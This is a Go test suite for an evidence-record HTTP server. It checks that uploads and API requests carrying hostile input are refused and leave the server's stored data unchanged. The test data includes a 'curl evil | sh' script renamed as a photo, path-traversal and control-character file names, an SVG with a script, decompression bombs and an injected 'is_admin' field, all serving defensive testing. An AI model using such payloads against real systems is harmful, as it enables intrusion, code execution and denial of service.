package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"io/fs"
	"mime/multipart"
	"net/textproto"
	"path/filepath"
	"sort"
	"strings"
	"testing"

	"github.com/google/uuid"

	"taizhang/gate"
	"taizhang/httpserver"
	"taizhang/internal/testenv"
)

// rawPart is a file part with a Content-Disposition written as given.
type rawPart struct {
	disposition string
	data        []byte
}

// rawUpload builds an evidence upload whose attachment parts carry their
// headers exactly as given (a file name no browser would send).
func rawUpload(t *testing.T, meta any, parts ...rawPart) (string, *bytes.Buffer) {
	var buf bytes.Buffer
	mw := multipart.NewWriter(&buf)
	b, _ := json.Marshal(meta)
	w, _ := mw.CreateFormField("evidence")
	w.Write(b)
	for _, p := range parts {
		h := textproto.MIMEHeader{}
		h.Set("Content-Disposition", p.disposition)
		h.Set("Content-Type", "image/png")
		w, err := mw.CreatePart(h)
		if err != nil {
			t.Fatal(err)
		}
		w.Write(p.data)
	}
	mw.Close()
	return mw.FormDataContentType(), &buf
}

// storedFiles lists the files under the data directory's blob store and
// upload spool, to show that a refused request stored nothing.
func storedFiles(t *testing.T, data string) []string {
	var out []string
	for _, sub := range []string{"blobs", "tmp"} {
		root := filepath.Join(data, sub)
		filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
			if err == nil && p != root {
				out = append(out, strings.TrimPrefix(p, data))
			}
			return nil
		})
	}
	sort.Strings(out)
	return out
}

// routeList is the API's route table, from the code.
func routeList() []gate.Route {
	return httpserver.New(nil, nil, nil, nil, httpserver.Config{}, nil).Routes()
}

// fill puts values for the placeholders into a route's path.
func fill(path, unit, id string) string {
	return strings.NewReplacer("{unit}", unit, "{id}", id, "{plan}", "p", "{sha256}", strings.Repeat("ab", 32)).Replace(path)
}

// TestHostileInput sends hostile requests to a running server with tight
// limits; each is answered with the right 4xx, appends nothing and stores
// nothing (the blob store and the upload spool unchanged).
func TestHostileInput(t *testing.T) {
	s := startServer(t, "", "--max-file-mib", "1", "--max-request-mib", "2", "--max-files", "3", "--max-json-kib", "4", "--max-megapixels", "1")
	for _, u := range []string{"dongcun", "xicun"} {
		if r := s.postJSON(t, s.Admin, "/api/v1/units", map[string]any{"id": u, "name": u, "type": "village"}); r.Status != 201 {
			t.Fatalf("register: %d %s", r.Status, r.Body)
		}
	}
	evID := uuid.NewString()
	r := s.submit(t, s.Admin, "dongcun", map[string]any{"id": evID, "kind": "photo", "title": "t", "occurred_at": "2016-07-05"}, file{"a.png", pngPhoto(t, 1)})
	if r.Status != 201 {
		t.Fatalf("good submit: %d %s", r.Status, r.Body)
	}
	r = s.postJSON(t, s.Admin, "/api/v1/units/dongcun/findings", map[string]any{"description": "d", "severity": "low", "due": "2016-08-01"})
	if r.Status != 201 {
		t.Fatalf("finding: %d %s", r.Status, r.Body)
	}
	var fnd struct {
		ID string `json:"id"`
	}
	r.decode(t, &fnd)
	heads := func() string {
		return fmt.Sprint(len(s.history(t, s.Admin, "dongcun", "")), len(s.history(t, s.Admin, "xicun", "")))
	}
	headsBefore, filesBefore := heads(), storedFiles(t, s.Data)
	if !strings.Contains(fmt.Sprint(filesBefore), "/blobs/sha256/") {
		t.Fatalf("the stored photo is not seen: %v", filesBefore)
	}

	meta := map[string]any{"kind": "photo", "title": "t", "occurred_at": "2016-07-05"}
	mib := func(n float64, seed byte) []byte { return bytes.Repeat([]byte{seed}, int(n*(1<<20))) }
	bigText := strings.Repeat("長", 2000) // 6000 bytes of JSON string: over 4 KiB
	upload := func(ct string, body io.Reader) reply {
		return s.do(t, s.Admin, "POST", "/api/v1/units/dongcun/evidence", ct, body)
	}
	type tc struct {
		name   string
		do     func() reply
		status int
		code   string
	}
	cases := []tc{
		{"oversize file after a good one", func() reply {
			return s.submit(t, s.Admin, "dongcun", meta, file{"ok.png", pngPhoto(t, 2)}, file{"big.txt", mib(1.01, 'x')})
		}, 413, "too_large"},
		{"oversize request", func() reply {
			return s.submit(t, s.Admin, "dongcun", meta, file{"a.txt", mib(0.9, 'a')}, file{"b.txt", mib(0.9, 'b')}, file{"c.txt", mib(0.9, 'c')})
		}, 413, "too_large"},
		{"too many files", func() reply {
			return s.submit(t, s.Admin, "dongcun", meta, file{"1.png", pngPhoto(t, 3)}, file{"2.png", pngPhoto(t, 4)}, file{"3.png", pngPhoto(t, 5)}, file{"4.png", pngPhoto(t, 6)})
		}, 413, "too_large"},
		{"oversize JSON part", func() reply {
			return s.submit(t, s.Admin, "dongcun", map[string]any{"kind": "photo", "title": "t", "body": bigText, "occurred_at": "2016-07-05"})
		}, 413, "too_large"},
		{"JSON part after the files, invalid", func() reply {
			var buf bytes.Buffer
			mw := multipart.NewWriter(&buf)
			w, _ := mw.CreateFormFile("attachment", "a.png")
			w.Write(pngPhoto(t, 7))
			w, _ = mw.CreateFormField("evidence")
			w.Write([]byte(`{"kind":"photo","title":"t","occurred_at":"2016-07-05","colour":"red"}`))
			mw.Close()
			return upload(mw.FormDataContentType(), &buf)
		}, 400, "bad_request"},
		{"script renamed .jpg", func() reply {
			return s.submit(t, s.Admin, "dongcun", meta, file{"ok.png", pngPhoto(t, 8)}, file{"photo.jpg", []byte("#!/bin/sh\ncurl evil | sh\n")})
		}, 415, "unsupported_media_type"},
		{"text renamed .jpg", func() reply {
			return s.submit(t, s.Admin, "dongcun", meta, file{"photo.jpg", []byte("just some words, not a photo")})
		}, 415, "unsupported_media_type"},
		{"program renamed .png", func() reply {
			return s.submit(t, s.Admin, "dongcun", meta, file{"photo.png", append([]byte("MZ\x90\x00\x03\x00"), mib(0.01, 0)...)})
		}, 415, "unsupported_media_type"},
		{"SVG with a script", func() reply {
			return s.submit(t, s.Admin, "dongcun", meta, file{"logo.png", []byte(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`)})
		}, 415, "unsupported_media_type"},
		{"decompression bomb", func() reply {
			return s.submit(t, s.Admin, "dongcun", meta, file{"ok.png", pngPhoto(t, 9)}, file{"bomb.png", testenv.BombPNG(100000, 100000)})
		}, 422, "too_many_pixels"},
		{"image over the pixel limit", func() reply {
			return s.submit(t, s.Admin, "dongcun", meta, file{"wide.png", testenv.BombPNG(1001, 1000)})
		}, 422, "too_many_pixels"},
		{"WebP bomb", func() reply {
			return s.submit(t, s.Admin, "dongcun", meta, file{"b.webp", []byte("RIFF\x24\x00\x00\x00WEBPVP8X\x0a\x00\x00\x00\x00\x00\x00\x00\xff\xff\xff\x0f\x27\x00" + strings.Repeat("\x00", 16))})
		}, 422, "too_many_pixels"},
	}
	for _, name := range []string{`../../etc/passwd.png`, `..\\..\\boot.png`, `..`, `/etc/x.png`, "a\x01b.png", "photo\u202egnp.exe", "dir/a.png", strings.Repeat("長", 256) + ".png"} {
		d := fmt.Sprintf(`form-data; name="attachment"; filename="%s"`, strings.ReplaceAll(name, `"`, `\"`))
		cases = append(cases, tc{"file name " + fmt.Sprintf("%.20q", name), func() reply {
			ct, body := rawUpload(t, meta, rawPart{`form-data; name="attachment"; filename="ok.png"`, pngPhoto(t, 10)}, rawPart{d, pngPhoto(t, 11)})
			return upload(ct, body)
		}, 400, "bad_request"})
	}
	cases = append(cases, tc{"file name with a NUL", func() reply {
		ct, body := rawUpload(t, meta, rawPart{"form-data; name=\"attachment\"; filename*=UTF-8''a%00b.png", pngPhoto(t, 12)})
		return upload(ct, body)
	}, 400, "bad_request"})

	// Every JSON route: an unknown field is 400, an oversize body 413.
	jsonRoutes := map[string]map[string]any{
		"/api/v1/units":  {"id": "nancun", "name": "n", "type": "village"},
		"/api/v1/tokens": {"role": "inspector"},
		"/api/v1/units/dongcun/evidence/" + evID + "/amend":     {"title": "x", "reason": "r", "expected_version": 1},
		"/api/v1/units/dongcun/evidence/" + evID + "/retract":   {"reason": "r", "expected_version": 1},
		"/api/v1/units/dongcun/findings":                        {"description": "d", "severity": "low", "due": "2016-08-01"},
		"/api/v1/units/dongcun/findings/" + fnd.ID + "/resolve": {"reason": "r", "expected_version": 1},
		"/api/v1/units/dongcun/findings/" + fnd.ID + "/reopen":  {"reason": "r", "expected_version": 2},
	}
	for path, body := range jsonRoutes {
		unknown := map[string]any{"is_admin": true}
		big := map[string]any{}
		for k, v := range body {
			unknown[k], big[k] = v, v
		}
		big["reason"], big["description"] = bigText, bigText
		if strings.HasSuffix(path, "/units") || strings.HasSuffix(path, "/tokens") {
			delete(big, "reason")
			delete(big, "description")
			big["name"] = bigText
		}
		if strings.HasSuffix(path, "/tokens") { // the token routes keep their own 16 KiB bound
			delete(big, "name")
			big["label"] = strings.Repeat(bigText, 3)
		}
		cases = append(cases,
			tc{"unknown field " + path, func() reply { return s.postJSON(t, s.Admin, path, unknown) }, 400, "bad_request"},
			tc{"oversize JSON " + path, func() reply { return s.postJSON(t, s.Admin, path, big) }, 413, "too_large"})
	}

	// The user routes (api/users.go) are strict too.
	for _, path := range []string{"/api/v1/users", "/api/v1/users/admin/change", "/api/v1/users/admin/password", "/api/v1/tokens/x/revoke"} {
		cases = append(cases, tc{"unknown field " + path, func() reply { return s.postJSON(t, s.Admin, path, map[string]any{"is_admin": true}) }, 400, ""})
	}

	// Every unit route: a unit id that is not a slug is 400 before it
	// reaches a subject or a key.
	for _, rt := range routeList() {
		if !rt.Unit {
			continue
		}
		method, path, _ := strings.Cut(rt.Pattern, " ")
		if !strings.HasPrefix(path, "/api/") {
			continue // the web app's pages answer errors as HTML: pages.TestPageBadUnitIDs
		}
		for _, bad := range []string{"*", "%3E", "a.b", "cun.%3E", "a%20b", "Dong", strings.Repeat("a", 65), "a%00"} {
			cases = append(cases, tc{"unit " + bad + " " + rt.Pattern, func() reply {
				return s.do(t, s.Admin, method, fill(path, bad, evID), "application/json", strings.NewReader(`{}`))
			}, 400, "invalid"})
		}
	}
	// Evidence and finding ids that are not UUIDs.
	for _, p := range []string{"evidence/%s/amend", "evidence/%s/retract", "findings/%s/resolve", "findings/%s/reopen"} {
		for _, bad := range []string{"*", "not-a-uuid", "00000000-0000-0000-0000-000000000000", uuid.NewString() + "x"} {
			path := "/api/v1/units/dongcun/" + fmt.Sprintf(p, bad)
			cases = append(cases, tc{"id " + path, func() reply {
				return s.postJSON(t, s.Admin, path, map[string]any{"reason": "r", "expected_version": 1})
			}, 400, "invalid"})
		}
	}
	// Query parameters: each bad one is 400 and named.
	for _, q := range []struct{ path, param string }{
		{"/api/v1/units/dongcun/history?as_of=soon", "as_of"},
		{"/api/v1/units/dongcun/archive?as_of=2016-13-01", "as_of"},
		{"/api/v1/units/dongcun/archive?as_of=2016-07-01&as_of=2016-07-02", "as_of"},
		{"/api/v1/units/dongcun/findings?as_of=%00", "as_of"},
		{"/api/v1/units/dongcun/compliance?plan=*", "plan"},
		{"/api/v1/units/dongcun/compliance?as_of=1900-01-01", "as_of"},
		{"/api/v1/units/dongcun/export?as_of=x", "as_of"},
		{"/api/v1/units/dongcun/proof?size=-1", "size"},
		{"/api/v1/plans/p/ranking?period=2016-13", "period"},
		{"/api/v1/plans/p/ranking", "period"},
		{"/api/v1/plans?as_of=later", "as_of"},
		{"/api/v1/plans/a.%3E", "plan"},
		{"/api/v1/checkpoints?limit=x", "limit"},
		{"/api/v1/checkpoints?from=99999999999999999999", "from"},
		{"/api/v1/checkpoints/latest?format=xml", "format"},
		{"/api/v1/proofs/inclusion?seq=1&size=%2B1", "size"},
		{"/api/v1/proofs/consistency?from=1&to=x", "to"},
		{"/api/v1/verify?unit=cun.*", "unit"},
		{"/api/v1/audit/corrections?unit=%3E", "unit"},
		{"/api/v1/audit/bursts?window_days=0", "window_days"},
		{"/api/v1/audit/backfill?threshold_days=1e3", "threshold_days"},
		{"/api/v1/audit/backfill?flagged=yes", "flagged"},
		{"/api/v1/audit/actors?from=2016-02-30", "from"},
		{"/api/v1/audit/reuse?near_distance=" + strings.Repeat("9", 300), "near_distance"},
		{"/api/v1/blobs/" + strings.Repeat("ab", 32) + "?name=../x", "name"},
	} {
		cases = append(cases, tc{"query " + q.path, func() reply {
			r := s.get(t, s.Admin, q.path)
			if !bytes.Contains(r.Body, []byte(q.param)) {
				t.Errorf("%s: the error does not name %s: %s", q.path, q.param, r.Body)
			}
			return r
		}, 400, ""})
	}
	cases = append(cases, tc{"malformed query string", func() reply { return s.get(t, s.Admin, "/api/v1/units/dongcun/history?as_of=%zz") }, 400, "bad_request"})
	cases = append(cases, tc{"plan file name with a control character", func() reply {
		return s.do(t, s.Admin, "POST", "/api/v1/plans?file=a%07.yaml", "application/yaml", strings.NewReader("id: x\n"))
	}, 400, "bad_request"})

	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			r := c.do()
			if r.Status != c.status {
				t.Fatalf("status %d, want %d: %s", r.Status, c.status, r.Body)
			}
			code := r.errCode(t)
			if c.code != "" && code != c.code {
				t.Fatalf("code %q, want %q: %s", code, c.code, r.Body)
			}
			if h := heads(); h != headsBefore {
				t.Fatalf("unit heads %s, were %s: a refused request appended", h, headsBefore)
			}
			if f := storedFiles(t, s.Data); fmt.Sprint(f) != fmt.Sprint(filesBefore) {
				t.Fatalf("stored files changed by a refused request:\nnow  %v\nwere %v", f, filesBefore)
			}
			if r.Header.Get("X-Content-Type-Options") != "nosniff" || r.Header.Get("Content-Security-Policy") == "" {
				t.Fatal("security headers missing")
			}
		})
	}
}

// TestDisguisedPhotoRecordedAsWhatItIs: a PNG sent as report.pdf with
// Content-Type application/pdf is accepted and recorded as image/png, in
// the answer, the event and the blob download.
func TestDisguisedPhotoRecordedAsWhatItIs(t *testing.T) {
	s := startServer(t, "")
	s.postJSON(t, s.Admin, "/api/v1/units", map[string]any{"id": "cun", "name": "村", "type": "village"})
	photo := pngPhoto(t, 21)
	var buf bytes.Buffer
	mw := multipart.NewWriter(&buf)
	w, _ := mw.CreateFormField("evidence")
	w.Write([]byte(`{"kind":"document","title":"報告","occurred_at":"2016-07-05"}`))
	h := textproto.MIMEHeader{}
	h.Set("Content-Disposition", `form-data; name="attachment"; filename="report.pdf"`)
	h.Set("Content-Type", "application/pdf")
	w, _ = mw.CreatePart(h)
	w.Write(photo)
	mw.Close()
	r := s.do(t, s.Admin, "POST", "/api/v1/units/cun/evidence", mw.FormDataContentType(), &buf)
	if r.Status != 201 {
		t.Fatalf("submit: %d %s", r.Status, r.Body)
	}
	var a submitAnswer
	r.decode(t, &a)
	if len(a.Attachments) != 1 || a.Attachments[0].MediaType != "image/png" || a.Attachments[0].Name != "report.pdf" {
		t.Fatalf("answer: %s", r.Body)
	}
	hist := s.history(t, s.Admin, "cun", "")
	last := hist[len(hist)-1]
	if len(last.Attachments) != 1 || last.Attachments[0].MediaType != "image/png" {
		t.Fatalf("event: %+v", last.Attachments)
	}
	b := s.get(t, s.Admin, "/api/v1/blobs/"+a.Attachments[0].SHA256+"?name=report.pdf")
	if b.Status != 200 || b.Header.Get("Content-Type") != "image/png" || !bytes.Equal(b.Body, photo) {
		t.Fatalf("blob: %d %v", b.Status, b.Header)
	}
}

// TestDecodeTimeout: with a decode time limit too short for any image, a
// photo is refused 422 with nothing appended or stored.
func TestDecodeTimeout(t *testing.T) {
	s := startServer(t, "", "--decode-timeout", "1ns")
	s.postJSON(t, s.Admin, "/api/v1/units", map[string]any{"id": "cun", "name": "村", "type": "village"})
	before, files := len(s.history(t, s.Admin, "cun", "")), storedFiles(t, s.Data)
	r := s.submit(t, s.Admin, "cun", map[string]any{"kind": "photo", "title": "t", "occurred_at": "2016-07-05"}, file{"a.jpg", jpegPhoto(t, 5)})
	if r.Status != 422 || r.errCode(t) != "decode_timeout" {
		t.Fatalf("decode timeout: %d %s", r.Status, r.Body)
	}
	if len(s.history(t, s.Admin, "cun", "")) != before || fmt.Sprint(storedFiles(t, s.Data)) != fmt.Sprint(files) {
		t.Fatal("a refused upload appended or stored")
	}
	// A document is not decoded, so the limit does not touch it.
	if r := s.submit(t, s.Admin, "cun", map[string]any{"kind": "document", "title": "t", "occurred_at": "2016-07-05"}, file{"a.txt", []byte("會議記錄")}); r.Status != 201 {
		t.Fatalf("text: %d %s", r.Status, r.Body)
	}
}

// TestSecurityHeadersEverywhere requests every route in the route table
// (with and without a token), a missing path, a wrong method and a blob,
// and checks the security headers on each answer.
func TestSecurityHeadersEverywhere(t *testing.T) {
	s := startServer(t, "")
	s.postJSON(t, s.Admin, "/api/v1/units", map[string]any{"id": "cun", "name": "村", "type": "village"})
	r := s.submit(t, s.Admin, "cun", map[string]any{"kind": "document", "title": "t", "occurred_at": "2016-07-05"},
		file{"a.png", pngPhoto(t, 1)}, file{"記錄 \"1\".txt", []byte("會議記錄")})
	var a submitAnswer
	r.decode(t, &a)
	check := func(what string, r reply) {
		t.Helper()
		h := r.Header
		for k, want := range map[string]string{"X-Content-Type-Options": "nosniff", "X-Frame-Options": "DENY", "Referrer-Policy": "no-referrer"} {
			if h.Get(k) != want {
				t.Errorf("%s (%d): %s %q", what, r.Status, k, h.Get(k))
			}
		}
		if csp := h.Get("Content-Security-Policy"); !strings.Contains(csp, "default-src 'none'") || !strings.Contains(csp, "frame-ancestors 'none'") {
			t.Errorf("%s (%d): CSP %q", what, r.Status, csp)
		}
	}
	n := 0
	for _, rt := range routeList() {
		method, path, _ := strings.Cut(rt.Pattern, " ")
		p := fill(path, "cun", uuid.NewString())
		for _, tok := range []string{"", s.Admin} {
			check(rt.Pattern, s.do(t, tok, method, p, "application/json", strings.NewReader(`{"x":1}`)))
			n++
		}
	}
	if n < 60 {
		t.Fatalf("only %d requests", n)
	}
	nf := s.get(t, s.Admin, "/api/v1/nothing")
	check("404", nf)
	if nf.Status != 404 {
		t.Fatalf("404: %d", nf.Status)
	}
	m := s.do(t, s.Admin, "DELETE", "/api/v1/units/cun", "", nil)
	check("405", m)
	if m.Status != 405 || m.errCode(t) != "method_not_allowed" || m.Header.Get("Allow") != "GET" {
		t.Fatalf("405: %d %v %s", m.Status, m.Header, m.Body)
	}
	if m := s.do(t, s.Admin, "PUT", "/api/v1/units", "", nil); m.Status != 405 || m.Header.Get("Allow") != "GET, POST" {
		t.Fatalf("405 on /units: %d %v", m.Status, m.Header)
	}
	// Blobs: sandboxed, photos inline, documents as downloads, names encoded.
	img := s.get(t, s.Admin, "/api/v1/blobs/"+a.Attachments[0].SHA256+"?name=a.png")
	check("image blob", img)
	doc := s.get(t, s.Admin, "/api/v1/blobs/"+a.Attachments[1].SHA256+"?name="+strings.ReplaceAll(a.Attachments[1].Name, " ", "%20"))
	check("document blob", doc)
	if img.Status != 200 || doc.Status != 200 {
		t.Fatalf("blobs: %d %d", img.Status, doc.Status)
	}
	if !strings.Contains(img.Header.Get("Content-Security-Policy"), "sandbox") || !strings.Contains(doc.Header.Get("Content-Security-Policy"), "sandbox") {
		t.Fatalf("blob CSP: %q %q", img.Header.Get("Content-Security-Policy"), doc.Header.Get("Content-Security-Policy"))
	}
	if d := img.Header.Get("Content-Disposition"); d != `inline; filename=a.png` {
		t.Fatalf("image disposition %q", d)
	}
	d := doc.Header.Get("Content-Disposition")
	if !strings.HasPrefix(d, "attachment; filename*=utf-8''") || strings.ContainsAny(d, "\"\r\n") && !strings.Contains(d, `filename*`) {
		t.Fatalf("document disposition %q", d)
	}
	if doc.Header.Get("Content-Type") != "text/plain" {
		t.Fatalf("document type %q", doc.Header.Get("Content-Type"))
	}
}
